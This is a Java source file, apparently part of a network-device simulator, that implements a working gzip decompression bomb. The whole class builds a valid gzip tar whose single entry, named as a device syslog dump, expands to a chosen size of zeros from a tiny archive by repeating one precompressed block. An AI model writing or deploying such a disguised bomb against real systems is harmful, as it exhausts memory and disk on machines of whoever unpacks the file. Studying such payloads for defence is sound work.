package io.netdepot.simulator;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;

/**
 * A valid gzip tar with one file of zeros, a thousandth of its unpacked size.
 *
 * <p>Each mebibyte of zeros that follows another one compresses to the same bytes, so it is
 * compressed once and then repeated.
 */
final class GzipBomb {
  private static final int BLOCK = 1 << 20;
  private static final byte[] GZIP_HEADER = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, (byte) 0xff};

  private final Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
  private final CRC32 crc = new CRC32();
  private final byte[] zeros = new byte[BLOCK];

  private GzipBomb() {}

  /** Writes a bomb that unpacks to this many bytes, rounded up to whole mebibytes. */
  static void write(OutputStream out, long unpacked) throws IOException {
    new GzipBomb().writeTo(out, Math.max(2, Math.ceilDiv(unpacked, BLOCK)));
  }

  private void writeTo(OutputStream out, long blocks) throws IOException {
    try {
      byte[] header = tarHeader(blocks * BLOCK);
      out.write(GZIP_HEADER);
      out.write(deflate(header, Deflater.SYNC_FLUSH));
      out.write(deflate(zeros, Deflater.SYNC_FLUSH));
      byte[] repeated = deflate(zeros, Deflater.SYNC_FLUSH);
      out.write(repeated);
      for (long block = 2; block < blocks; block++) {
        out.write(repeated);
        crc.update(zeros);
      }
      byte[] end = new byte[2 * 512];
      deflater.finish();
      out.write(deflate(end, Deflater.NO_FLUSH));
      long length = header.length + blocks * BLOCK + end.length;
      out.write(
          ByteBuffer.allocate(8)
              .order(ByteOrder.LITTLE_ENDIAN)
              .putInt((int) crc.getValue())
              .putInt((int) length)
              .array());
    } finally {
      deflater.end();
    }
  }

  private byte[] deflate(byte[] input, int flush) {
    crc.update(input);
    deflater.setInput(input);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] buffer = new byte[8192];
    int length;
    do {
      length = deflater.deflate(buffer, 0, buffer.length, flush);
      out.write(buffer, 0, length);
    } while (length == buffer.length || (length > 0 && flush == Deflater.NO_FLUSH));
    return out.toByteArray();
  }

  private static byte[] tarHeader(long size) throws IOException {
    ByteArrayOutputStream header = new ByteArrayOutputStream();
    // Closing would complain that the entry's content is missing: it follows by another way.
    @SuppressWarnings("resource")
    TarArchiveOutputStream tar = new TarArchiveOutputStream(header);
    tar.setBigNumberMode(TarArchiveOutputStream.BIGNUMBER_POSIX);
    TarArchiveEntry entry = new TarArchiveEntry("nvos_dump/log/syslog");
    entry.setSize(size);
    tar.putArchiveEntry(entry);
    return header.toByteArray();
  }
}
